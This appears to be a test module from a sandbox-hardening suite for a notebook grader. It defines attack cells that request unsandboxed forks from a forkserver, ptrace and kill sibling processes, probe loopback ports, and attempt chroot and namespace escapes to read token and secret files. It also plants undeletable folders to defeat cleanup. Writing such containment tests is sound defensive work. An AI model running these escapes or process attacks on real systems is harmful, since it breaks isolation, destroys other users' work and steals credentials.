"""Other rooms: the forkserver, sibling kernels, the examiner, the scheduler."""

from tests.attacks.catalogue import HARMS, NOTHING, UNTRIED, attack


@attack("Reach every unix socket that can be seen, and ask the forkserver for a room.",
        plain=UNTRIED)  # fmt: skip
def the_forkserver_s_socket(sub):
    sub.last_cell("""
$GUARD
import array, json, os, socket

paths = {line.split()[7] for line in open("/proc/net/unix").read().splitlines()[1:]
         if len(line.split()) > 7}
places = [path for path in paths if "$RUN" in path or "forkserver" in path]
for folder, folders, names in os.walk("/tmp"):
    folders[:] = folders[:200]
    places += [os.path.join(folder, name) for name in names if name == "forkserver"]
reached = []
for path in places:
    if "$RUN" not in path and not path.startswith("$HOME"[:-5]):
        continue  # not of this run
    for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
        try:
            link = socket.socket(socket.AF_UNIX, kind)
            link.settimeout(1)
            link.connect(path.replace("@", chr(0), 1))
            reached.append(path)
            link.send(json.dumps({"do": "fork", "sandbox": False, "limits": {}}).encode())
            link.send(json.dumps({"do": "kill"}).encode())
        except OSError:
            pass
print("$MARK-reached", reached)
    """)


@attack("Stop, kill, trace and read whatever other process can be seen.", plain=HARMS)
def sibling_kernels(sub):
    sub.last_cell("""
$GUARD
import ctypes, os, signal

libc = ctypes.CDLL(None, use_errno=True)
touched = []
for pid in _others():
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        touched.append(("traced", pid))
        libc.ptrace(17, pid, 0, 0)
    buffer = ctypes.create_string_buffer(8)
    for path in (f"/proc/{pid}/mem", f"/proc/{pid}/oom_score_adj"):
        try:
            os.close(os.open(path, os.O_RDWR))
            touched.append((path, pid))
        except OSError:
            pass
    try:
        os.kill(pid, 0)
    except OSError:
        continue
    if pid > 1:
        os.kill(pid, signal.SIGKILL)
        touched.append(("killed", pid))
print("$MARK", touched)
    """)


@attack("Talk to every port on loopback that belongs to the grader: kernels, the scheduler.",
        plain=UNTRIED)  # fmt: skip
def ports_on_loopback(sub):
    sub.last_cell("""
$GUARD
import os, socket

listening = {}
for line in open("/proc/net/tcp").read().splitlines()[1:]:
    words = line.split()
    if words[3] == "0A":
        listening[words[9]] = int(words[1].split(":")[1], 16)
reached = []
for pid in _others():
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            name = os.readlink(f"/proc/{pid}/fd/{number}")
            port = listening.get(name[8:-1]) if name.startswith("socket:[") else None
            if port:
                link = socket.create_connection(("127.0.0.1", port), timeout=0.5)
                link.send(b"\\x00" * 8 + b"GET / HTTP/1.0\\r\\n\\r\\n")
                reached.append(port)
    except OSError:
        pass
print("$MARK", reached)
open("/dev/null", "w").write(str(reached))
    """)


@attack("Break out: new namespaces, mounts, a root of one's own, devices, set-user-id programs.",
        plain=HARMS, alone=False)  # fmt: skip
def out_of_the_sandbox(sub):
    sub.last_cell("""
        import ctypes, glob, os

        libc = ctypes.CDLL(None, use_errno=True)

        def look(root=""):
            for path in ("$TMP_SECRET", "$COURSE/source/walls/walls.ipynb", "$HOME/token.txt"):
                try:
                    print("$MARK", open(root + path).read()[::-1])
                except OSError:
                    pass

        def tell_in_a_child(what):
            try:
                pid = os.fork()
            except OSError:
                return
            if pid == 0:
                try:
                    what()
                finally:
                    os._exit(0)
            os.waitpid(pid, 0)

        def enter_others():
            for pid in (1, os.getppid()):
                look(f"/proc/{pid}/root")
                look(f"/proc/{pid}/cwd")
                for kind in ("mnt", "pid", "net", "user"):
                    try:
                        space = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                        libc.setns(space, 0)
                    except OSError:
                        pass
                look()

        def namespaces():
            if libc.unshare(0x10000000 | 0x00020000) == 0 and os.path.exists("/proc/self/uid_map"):
                libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)

        def chroot():
            os.makedirs("jail", exist_ok=True)
            try:
                here = os.open("/", os.O_RDONLY)
                os.chroot("jail")
                os.fchdir(here)
                for _ in range(30):
                    os.chdir("..")
                os.chroot(".")
                look()
            except OSError:
                pass

        for what in (look, enter_others, namespaces, chroot):
            tell_in_a_child(what)
        for number in range(3, 64):  # folders that somebody left open
            look(f"/proc/self/fd/{number}")
            look(f"/proc/self/fd/{number}/..")
        for place in glob.glob("/.*") + glob.glob("/*"):
            look(place)
        look()
    """)


@attack("Behave well for the tests, badly towards what cleans up: files nobody may delete.",
        plain=NOTHING)  # fmt: skip
def folders_that_cannot_be_removed(sub):
    sub.last_cell("""
        import os
        os.makedirs("a/b/c", exist_ok=True)
        open("a/b/c/$MARK", "w").write("x")
        os.chmod("a/b/c", 0)
        os.chmod("a/b", 0)
        deep = "d"
        for _ in range(1200):
            try:
                os.mkdir("d")
                os.chdir("d")
            except OSError:
                break
        for name in ("timestamp.txt", "walls.ipynb"):
            try:
                os.mkdir(name)
            except OSError:
                pass
    """)
